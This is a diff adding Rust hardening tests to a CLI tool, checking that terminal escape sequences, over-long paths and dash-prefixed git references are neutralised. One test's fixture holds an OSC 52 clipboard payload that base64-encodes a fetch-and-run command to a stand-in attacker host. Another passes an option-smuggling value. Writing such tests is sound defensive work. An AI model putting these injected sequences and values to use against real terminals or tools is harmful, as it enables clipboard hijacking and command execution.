@@ -476,3 +476,100 @@ fn an_xls_cell_out_of_bounds_is_refused() {
         assert_eq!(v["dossiers"][0]["verdict"], "illisible", "{f}");
     }
 }
+
+/// Hardening v2: nothing from a dossier or a file name can drive the terminal. ESC
+/// sequences (an OSC 52 that writes the clipboard, a screen clear, a window title), CR, form
+/// feed, C1 controls and bidi overrides are shown visibly, in every colour mode; the machine
+/// formats stay well formed (JUnit without XML-illegal characters, SARIF URIs percent-encoded,
+/// GitHub annotations escaped).
+#[test]
+fn terminal_sequences_in_values_and_names_are_shown_not_run() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let base = std::fs::read_to_string("tests/fixtures/cafe.toml").expect("read");
+    let piege = base.replacen(
+        "Quote-part du loyer de l'association",
+        "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\u0007\\u001b[2J\\u001b]0;titre\\u0007\\r\\f\\u009b31m\\u202efdp.exe\\ufffe",
+        1,
+    );
+    assert_ne!(base, piege);
+    let f = dir.path().join("a\u{1b}[2J b #1%.toml");
+    std::fs::write(&f, piege).expect("w");
+    for couleur in [None, Some("1")] {
+        let mut c = Command::cargo_bin("fnp").expect("binary");
+        c.env_remove("NO_COLOR").timeout(Duration::from_secs(60));
+        if let Some(v) = couleur {
+            c.env("CLICOLOR_FORCE", v);
+        } else {
+            c.env("NO_COLOR", "1");
+        }
+        for args in [&["check"][..], &["budget"], &["budget", "--format", "md"]] {
+            let o = c.args(args).arg(&f).output().expect("runs");
+            let sortie = String::from_utf8_lossy(&o.stdout).into_owned();
+            let erreurs = String::from_utf8_lossy(&o.stderr).into_owned();
+            for t in [&sortie, &erreurs] {
+                for interdit in ["\u{1b}]", "\u{1b}[2J", "\r", "\u{c}", "\u{9b}", "\u{202e}", "\u{7}"] {
+                    assert!(!t.contains(interdit), "{args:?} {couleur:?}: {interdit:?} raw in\n{t}");
+                }
+                if couleur.is_none() {
+                    assert!(!t.contains('\u{1b}'), "{args:?}: ESC without colour:\n{t}");
+                }
+            }
+            // Shown visibly (Markdown escapes the backslash and brackets once more).
+            assert!(sortie.contains("u{1b}") && sortie.contains("u{202e}"), "{args:?}: {sortie}");
+            let mut c2 = Command::cargo_bin("fnp").expect("binary");
+            c2.env("NO_COLOR", "1");
+            c = c2;
+        }
+    }
+    let p = f.to_str().expect("utf-8");
+    let texte = |args: &[&str]| String::from_utf8_lossy(&fnp().args(args).output().expect("runs").stdout).into_owned();
+    let junit = texte(&["check", "--format", "junit", p]);
+    for interdit in ['\u{1b}', '\u{fffe}', '\u{c}', '\u{7}'] {
+        assert!(!junit.contains(interdit), "JUnit holds {interdit:?}: {junit}");
+    }
+    assert!(junit.contains("\\u{fffe}"), "{junit}");
+    let sarif = texte(&["check", "--format", "sarif", p]);
+    let v: Value = serde_json::from_str(&sarif).expect("SARIF stays valid JSON");
+    let uri = v["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+        .as_str()
+        .expect("uri")
+        .to_string();
+    assert!(uri.ends_with("a%1B%5B2J%20b%20%231%25.toml"), "{uri}");
+    let github = texte(&["check", "--format", "github", p]);
+    assert!(!github.contains('\u{1b}') && !github.contains('\0') && github.contains("%1B"), "{github}");
+    assert!(github.lines().all(|l| l.starts_with("::")), "one command per line: {github}");
+}
+
+/// A path the system cannot open (too long, too deep) is one unreadable dossier with its
+/// reason, never a silent skip; the batch ends with exit 2.
+#[test]
+fn a_path_too_deep_for_the_system_is_one_unreadable_dossier() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    std::fs::copy("tests/fixtures/cafe.toml", dir.path().join("a.toml")).expect("copy");
+    // Built by a child process that walks down (each mkdir relative to the last folder), so
+    // that the test process never changes its own working directory.
+    let script = format!(
+        "import os\nos.chdir({:?})\nfor _ in range(30):\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)\nopen('b.toml', 'w').write('format = 1')\n",
+        dir.path().display().to_string()
+    );
+    let fait = std::process::Command::new("python3").args(["-c", &script]).status().expect("python3");
+    assert!(fait.success());
+    let (v, code) = json_de(&[dir.path().to_str().expect("utf-8")]);
+    assert_eq!(code, 2, "{v:#}");
+    assert_eq!(v["synthese"]["dossiers"], 2, "{v:#}");
+    assert_eq!(v["synthese"]["illisible"], 1, "{v:#}");
+    let illisible = v["dossiers"].as_array().expect("array").iter().find(|d| d["verdict"] == "illisible").expect("one");
+    let message = illisible["constats"][0]["message"].as_str().unwrap_or_default();
+    assert!(message.contains("trop long"), "{message}");
+}
+
+/// `rules impact --base git:-…`: a reference starting with a dash is never a git option.
+#[test]
+fn a_git_reference_is_never_an_option() {
+    let o = fnp()
+        .args(["rules", "impact", "--base", "git:--output=/tmp/fnp-piege", "--head", "rules", "examples"])
+        .output()
+        .expect("runs");
+    assert_eq!(o.status.code(), Some(2));
+    assert!(!Path::new("/tmp/fnp-piege").exists());
+}
